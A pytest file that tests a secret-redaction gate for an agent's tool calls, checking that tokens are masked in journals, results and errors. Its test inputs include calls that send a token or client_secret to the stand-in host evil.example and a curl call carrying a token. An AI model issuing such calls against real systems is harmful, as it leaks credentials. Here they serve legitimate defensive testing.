"""Step 6: a secret is masked before anybody sees it, on the way in and out, and never comes back in."""

from __future__ import annotations

import hmac
import json
import re
from base64 import b64decode, b64encode, urlsafe_b64encode
from collections.abc import Mapping
from hashlib import sha256
from pathlib import Path
from typing import NoReturn

import pytest
from gated import MARK, TOKEN, bodies, code, everything_stored, gate_of, grown, kinds, made, read, tree, write

from capsule.calls import Context, Source, ToolCall, ToolResult
from capsule.canon import Json, canonical
from capsule.errors import ToolError
from capsule.gate import Step, now_ms, open_journal
from capsule.report import Report

POLICY = """
rules:
  - {id: docs, action: allow, tool: [fs.read, fs.list], constraints: {path: {pattern: ./docs/**}}}
  - {id: plain, action: allow, tool: fs.read, redact: "off", constraints: {path: {pattern: ./plain/*}}}
  - {id: out, action: allow, tool: fs.write, constraints: {path: {pattern: "./out/*"}}}
  - {id: web, action: allow, tool: http.get, constraints: {url: {domains: [example.com]}, headers: {type: object}}}
  - {id: git, action: allow, tool: shell.run, constraints: {command: {executables: [git]}, env: {type: object}}}
"""
MADE = "rules: [{action: allow, tool: made.tool}]"
LINE = f"key = {TOKEN}"


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    return grown(
        tmp_path.resolve() / "ws",
        docs__key=LINE,
        docs__large="x" * 20_000 + LINE,
        docs__two=f"{TOKEN} {TOKEN[:-1]}9 {TOKEN}",
        docs__clean="nothing",
        plain__key=LINE,
        out__old="old",
    )


def _mac(home: Path, value: Json) -> str:
    return hmac.new((home / ".capsule/key").read_bytes(), canonical(value), sha256).hexdigest()


def test_a_token_in_a_file_appears_nowhere(workdir: Path, db: Path, isolated_home: Path) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(read("docs/key"))
    output: dict[str, Json] = {
        "path": "docs/key",
        "content": f"key = {MARK}",
        "encoding": "utf-8",
        "size": len(LINE),
        "sha256": None,
        "truncated": False,
        "next_offset": None,
    }
    assert result.output == output
    (finding,) = result.findings
    assert (finding.type, finding.line, finding.column, finding.length) == ("github_token", 1, 7, len(TOKEN))
    (outcome,) = bodies(db, "outcome")
    assert outcome["output"] == output
    assert outcome["findings"] == [finding.as_json()]
    raw: dict[str, Json] = {**output, "content": LINE, "sha256": sha256(LINE.encode()).hexdigest()}
    assert outcome["raw_mac"] == _mac(isolated_home, raw)
    _appears_nowhere(db, result)


def _appears_nowhere(db: Path, *results: ToolResult) -> None:
    store = open_journal(db)
    (run,) = store.runs(limit=1)
    report = Report(store, store.run(run.run_id), generated_ms=now_ms())
    shown = json.dumps([report.head(), *report.steps, report.summary()], ensure_ascii=False).encode()
    for form in (TOKEN.encode(), *(b64encode(pad + TOKEN.encode())[4:40] for pad in (b"", b"k", b"ke"))):
        assert form not in everything_stored(db)
        assert form not in shown
        assert form not in "".join(map(str, results)).encode()


@pytest.mark.parametrize("more", [{"encoding": "base64"}, {"offset": 4}, {"length": len(LINE)}, {"encoding": "utf-8"}])
@pytest.mark.parametrize("name", ["key", "large", "two"])
def test_however_it_is_read(workdir: Path, db: Path, name: str, more: dict[str, Json]) -> None:
    """Of a large file the output lies compressed in a place of its own."""
    if name != "key" and "length" in more:
        more = {"length": 1_000_000}
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(ToolCall(tool="fs.read", args={"path": f"docs/{name}", **more}))
    assert result.ok
    assert isinstance(result.output, Mapping)
    assert result.output["sha256"] is None
    assert "raw_mac" in bodies(db, "outcome")[0]
    _appears_nowhere(db, result)


def test_the_same_secret_has_the_same_number(workdir: Path) -> None:
    with gate_of(workdir, POLICY) as gate:
        output = gate.call(read("docs/two")).output
    assert isinstance(output, Mapping)
    assert output["content"] == f"{MARK} {MARK.replace('1', '2')} {MARK}"


def test_what_holds_nothing_stays_as_it_is(workdir: Path, db: Path) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(read("docs/clean"))
    assert isinstance(result.output, Mapping)
    assert result.output["sha256"] == sha256(b"nothing").hexdigest()
    assert "raw_mac" not in bodies(db, "outcome")[0]
    assert result.findings == ()


def test_a_rule_can_read_in_the_clear_but_not_where_another_forbids_it(workdir: Path) -> None:
    layer = POLICY.replace("./plain/*", "./docs/plain").replace("./docs/**", "./**")
    for layers, masked in (((POLICY,), False), ((POLICY, layer), True)):
        with gate_of(workdir, *layers) as gate:
            result = gate.call(read("plain/key"))
            assert (TOKEN in str(result.output)) is not masked
            assert result.findings


BEARER = "Bearer " + TOKEN[4:30] + "x1"
PLAIN = "Sup3rS3cretPw"
SPREAD = "\0".join(TOKEN)

CALLS: dict[str, ToolCall] = {
    "a path": read(f"docs/{TOKEN}"),
    "a path of no rule": read(f"other/{TOKEN}"),
    "a wrong argument": read("docs/clean", encoding=TOKEN),
    "an unknown argument": ToolCall(tool="fs.read", args={"path": "docs/clean", TOKEN: 1}),
    "no argument at all": ToolCall(tool="fs.read", args={TOKEN: TOKEN}),
    "no JSON": ToolCall(tool="fs.read", args={"path": [TOKEN, "\udcff"]}),
    "a tool": ToolCall(tool=TOKEN),
    "a content": write("out/new", LINE),
    "a content as base64": write("out/new", b64encode(LINE.encode()).decode(), encoding="base64"),
    "a name that is written": write(f"out/{TOKEN}"),
    "a pattern": ToolCall(tool="fs.list", args={"path": "docs", "pattern": f"*{TOKEN}*"}),
    "a URL": ToolCall(tool="http.get", args={"url": f"https://example.com/?token={TOKEN}"}),
    "a URL's password": ToolCall(tool="http.get", args={"url": f"https://me:{TOKEN}@example.com/"}),
    "a host": ToolCall(tool="http.get", args={"url": f"https://{TOKEN}.evil.example/"}),
    "a header": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {"Authorization": BEARER}}),
    "an odd header": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {"X-Key": TOKEN}}),
    "a command": ToolCall(tool="shell.run", args={"command": ["git", "clone", f"https://{TOKEN}@example.com/x"]}),
    "a command of no rule": ToolCall(tool="shell.run", args={"command": ["curl", TOKEN]}),
    "an environment": ToolCall(tool="shell.run", args={"command": ["git"], "env": {"TOKEN": TOKEN}}),
    "a URL's password of no kind": ToolCall(tool="http.get", args={"url": f"https://bob:{PLAIN}@example.com/"}),
    "a parameter": ToolCall(tool="http.get", args={"url": f"https://example.com/?access_token={PLAIN}"}),
    "a parameter of no rule": ToolCall(tool="http.get", args={"url": f"https://evil.example/?client_secret={PLAIN}"}),
    "a path that is cut": read(f"other/{'x' * 170}/{TOKEN}"),
    "a command that is cut": ToolCall(tool="shell.run", args={"command": ["curl", "x" * 170, TOKEN]}),
    "a wrong argument that is cut": read("docs/clean", encoding=f"{'x' * 40} {TOKEN}"),
    "a path with NULs": read(f"docs/{SPREAD}"),
    "a content with NULs": write("out/new", f"key = {SPREAD}"),
    "a wrong argument with NULs": read("docs/clean", encoding=SPREAD),
    "an unknown argument with NULs": ToolCall(tool="fs.read", args={"path": "docs/clean", SPREAD: 1}),
    "a tool with NULs": ToolCall(tool=SPREAD),
    "standard input": ToolCall(tool="shell.run", args={"command": ["git"], "stdin": TOKEN}),
}


@pytest.mark.parametrize("name", CALLS)
def test_e2_a_secret_in_a_call_reaches_neither_disk_nor_answer(workdir: Path, db: Path, name: str) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(CALLS[name])
    first = next(record for record in ("intent", "refused") if record in kinds(db))
    stored = without_nuls(everything_stored(db))
    for secret in (TOKEN[:16], PLAIN, BEARER.removeprefix("Bearer "), b64encode(LINE.encode()).decode()[12:40]):
        assert secret.encode() not in stored
    assert not any(secret in without_nuls(str(result).encode()).decode() for secret in (TOKEN[:16], PLAIN))
    assert "raw_mac" in bodies(db, first)[0]


def without_nuls(data: bytes) -> bytes:
    """Also those that are spelled, in a message or in JSON, or in a message in JSON."""
    return re.sub(rb"\0|\\+(?:x00|u0000)", b"", data)


CREDENTIALS = ["Bearer correcthorsebatterystaple", "Basic YWRtaW46YWRtaW4=", "hunter2-and-more", 47114711]


@pytest.mark.parametrize(
    "policy", [POLICY, POLICY.replace("type: object}}}", "type: object, additionalProperties: false}}}"), ""]
)
@pytest.mark.parametrize("name", ["Authorization", "authorization", "COOKIE", "Cookie "])
@pytest.mark.parametrize("value", CREDENTIALS)
def test_e2_what_a_call_names_a_credential_is_masked(
    workdir: Path, db: Path, policy: str, name: str, value: Json
) -> None:
    args: Mapping[str, Json] = {"url": "https://example.com", "headers": {name: value}}
    with gate_of(workdir, *([policy] if policy else [])) as gate:
        result = gate.call(ToolCall(tool="http.get", args=args))
    secret = str(value).rpartition(" ")[2]
    assert secret.encode() not in everything_stored(db)
    assert secret not in str(result)
    recorded = bodies(db, "intent" if "intent" in kinds(db) else "refused")[0]
    assert "raw_mac" in recorded
    assert "⟦redacted:" in str(recorded["args"])


def test_a_handle_is_no_credential(workdir: Path, db: Path) -> None:
    args: Mapping[str, Json] = {"url": "https://example.com", "headers": {"Authorization": "secret:GITHUB"}}
    with gate_of(workdir, POLICY) as gate:
        gate.call(ToolCall(tool="http.get", args=args))
    (refused,) = bodies(db, "refused")
    assert refused["args"] == args
    assert "raw_mac" not in refused


ENCODED = b64encode(LINE.encode()).decode()
NOT_QUITE_BASE64 = {
    "a line break": ENCODED + "\n",
    "lines": ENCODED[:20] + "\r\n " + ENCODED[20:],
    "no padding": b64encode(f"{LINE}.".encode()).decode().rstrip("="),
    "a letter too many": ENCODED.rstrip("=") + "A" * (1 + ENCODED.count("=")),
    "in two pieces": b64encode(b"x").decode() + ENCODED,
    "of URLs": urlsafe_b64encode(f"?>?>{LINE}".encode()).decode(),
}


@pytest.mark.parametrize("kind", NOT_QUITE_BASE64)
def test_e2_base64_that_is_refused_is_masked_all_the_same(workdir: Path, db: Path, kind: str) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(write("out/new", NOT_QUITE_BASE64[kind], encoding="base64"))
    assert code(result) == 2002
    (refused,) = bodies(db, "refused")
    assert "raw_mac" in refused
    _appears_nowhere(db, result)


def test_base64_is_opened_wherever_it_stands(workdir: Path, db: Path) -> None:
    """In an output that holds several, and of two secrets in one output each has its own number."""
    other = TOKEN[:-1] + "9"
    parts: list[Json] = [
        {"encoding": "base64", "body": b64encode(text.encode()).decode(), "content": "AA=="} for text in (LINE, other)
    ]
    with gate_of(workdir, MADE, tool=made(lambda args, context: {"parts": parts, "text": TOKEN})) as gate:
        result = gate.call(ToolCall(tool="made.tool"))
    second = MARK.replace(":1", ":2")
    masked: list[Json] = [
        {"encoding": "base64", "body": b64encode(text.encode()).decode(), "content": "AA=="}
        for text in (f"key = {MARK}", second)
    ]
    assert result.output == {"parts": masked, "text": MARK}
    assert len(result.findings) == 3
    _appears_nowhere(db, result)


UTF_16 = {
    "le": LINE.encode("utf-16-le"),
    "be": LINE.encode("utf-16-be"),
    "marked": b"\xff\xfe" + LINE.encode("utf-16-le"),
    "32": LINE.encode("utf-32-le"),
}


@pytest.mark.parametrize("more", [{}, {"encoding": "utf-8"}, {"encoding": "base64"}])
@pytest.mark.parametrize("offset", [0, 1, 2, 3])
@pytest.mark.parametrize("kind", UTF_16)
def test_e2_utf_16_hides_no_secret(workdir: Path, db: Path, kind: str, offset: int, more: dict[str, Json]) -> None:
    (workdir / "docs/wide").write_bytes(UTF_16[kind])
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(ToolCall(tool="fs.read", args={"path": "docs/wide", "offset": offset, **more}))
    if code(result) == 2003:
        return  # it was to be text, and is none
    output = result.output
    assert isinstance(output, Mapping)
    content = str(output["content"])
    assert output["encoding"] == more.get("encoding", "base64")
    assert TOKEN.encode() not in without_nuls(content.encode() if "utf-8" in more.values() else b64decode(content))
    assert b64encode(TOKEN.encode("utf-16-le"))[4:40] not in everything_stored(db)
    assert TOKEN.encode() not in without_nuls(everything_stored(db))
    assert (output["sha256"], "raw_mac" in bodies(db, "outcome")[0]) == (None, True)
    with gate_of(workdir, POLICY) as gate:
        assert code(gate.call(write("out/new", content, encoding=str(output["encoding"])))) == 1009


def test_e2_the_name_of_a_step_is_masked_in_every_record(workdir: Path, db: Path) -> None:
    policy = POLICY + "  - {action: ask, tool: fs.write, constraints: {path: {pattern: ./ask/*}}}"
    step = Step(id=TOKEN, index=0)
    with gate_of(workdir, policy) as gate:
        results = [gate.call(call, step=step) for call in (read("docs/clean"), read("other/x"), write("ask/x"))]
        gate.reject(read("docs/clean"), ToolError(2002, "no"), step=step)
        gate.wait(step, 1)
        gate.skip([(step, "fs.read")])
    assert kinds(db)[1:-1] == [
        "intent",
        "outcome",
        "refused",
        "question",
        "answer",
        "refused",
        "refused",
        "wait",
        "skipped",
    ]
    for kind in ("intent", "refused", "question", "wait"):
        assert {body["step"] for body in bodies(db, kind)} == {MARK}
    _appears_nowhere(db, *results)


def test_what_is_written_is_the_real_value(workdir: Path) -> None:
    """Only records are masked; the file gets what the caller said."""
    with gate_of(workdir, POLICY) as gate:
        assert gate.call(write("out/new", LINE)).ok
    assert (workdir / "out/new").read_text() == LINE


@pytest.mark.parametrize("hint", [None, f"use {TOKEN}"])
@pytest.mark.parametrize("kind", ["expected", "unexpected", "flag"])
def test_e2_what_a_tool_raises_is_masked_too(workdir: Path, db: Path, kind: str, hint: str | None) -> None:
    def act(args: Mapping[str, Json], context: Context) -> NoReturn:
        if kind == "flag":
            context.flag(TOKEN)
        raise ToolError(2003, f"with {TOKEN}", hint=hint) if kind == "expected" else RuntimeError(TOKEN)

    with gate_of(workdir, MADE, tool=made(act)) as gate:
        result = gate.call(ToolCall(tool="made.tool"))
    _appears_nowhere(db, result)


def test_what_is_returned_is_the_record_marker_by_marker(workdir: Path, db: Path) -> None:
    """Also where several secrets stand in one refusal: their numbers agree."""
    other = TOKEN[:-1] + "9"
    with gate_of(workdir, POLICY) as gate:
        results = [
            gate.call(ToolCall(tool="fs.read", args={"path": f"other/{TOKEN}", "encoding": other})),
            gate.call(read(f"other/{TOKEN}/{other}")),
            gate.call(ToolCall(tool=other, args={"path": TOKEN})),
        ]
    for result, body in zip(results, bodies(db, "refused"), strict=True):
        error = body["error"]
        assert isinstance(error, Mapping)
        assert result.error is not None
        assert (error["message"], error.get("hint")) == (result.error.message, result.error.hint)


def test_the_policy_as_it_is_recorded_holds_no_secret(workdir: Path, db: Path, isolated_home: Path) -> None:
    with gate_of(workdir, POLICY + f"description: the key is {TOKEN}") as gate:
        gate.call(read("docs/clean"))
    assert TOKEN.encode() not in everything_stored(db)
    assert "raw_mac" in bodies(db, "start")[0]


MARKED: dict[str, ToolCall] = {
    "content": write("out/new", f"key = {MARK}"),
    "content of another number and case": write("out/new", "⟦REDACTED:anything:77⟧"),
    "content as base64": write("out/new", b64encode(f"k {MARK}".encode()).decode(), encoding="base64"),
    "content as a URL would write it": write("out/new", "%E2%9F%A6redacted%3Agithub_token%3A1%E2%9F%A7"),
    "content as JSON would write it": write("out/new", json.dumps({"key": MARK})),
    "appended": write("out/old", MARK, mode="append"),
    "overwritten": write("out/old", MARK, mode="overwrite"),
    "path": write(f"out/{MARK}"),
    "read path": read(f"docs/{MARK}"),
    "url": ToolCall(tool="http.get", args={"url": f"https://example.com/?k={MARK}"}),
    "header": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {"x": MARK}}),
    "header name": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {MARK: "x"}}),
    "command": ToolCall(tool="shell.run", args={"command": ["git", MARK]}),
    "env": ToolCall(tool="shell.run", args={"command": ["git"], "env": {"K": MARK}}),
    "stdin": ToolCall(tool="shell.run", args={"command": ["git"], "stdin": MARK}),
}


@pytest.mark.parametrize("name", MARKED)
def test_a_masked_value_cannot_be_used(workdir: Path, db: Path, name: str) -> None:
    before = tree(workdir)
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(MARKED[name])
    assert (result.status, code(result)) == ("denied", 1009)
    assert result.error is not None
    assert result.error.hint is not None
    assert "redact: off" in result.error.hint
    assert kinds(db) == ["start", "refused", "end"]
    assert tree(workdir) == before


def test_copying_what_was_read_does_not_destroy_it(workdir: Path) -> None:
    """The rule's purpose: a file with a secret, read and written back, would lose it."""
    before = tree(workdir)
    policy = POLICY.replace('"./out/*"', '"./docs/*"')
    with gate_of(workdir, policy) as gate:
        output = gate.call(read("docs/key", source=Source.AGENT)).output
        assert isinstance(output, Mapping)
        content = str(output["content"])
        for mode in ("overwrite", "append"):
            assert code(gate.call(write("docs/key", content, mode=mode))) == 1009
    assert tree(workdir) == before


def test_a_secret_has_one_number_in_a_call_also_in_its_error(workdir: Path, db: Path) -> None:
    other = TOKEN[:-4] + "Zz9x"
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(read(f"docs/{other}/{TOKEN}"))
    assert result.error is not None
    (intent,) = bodies(db, "intent")
    path = str(intent["args"]["path"]) if isinstance(intent["args"], Mapping) else ""
    assert path.endswith(MARK.replace(":1", ":2"))
    assert f"{path}:" in result.error.message
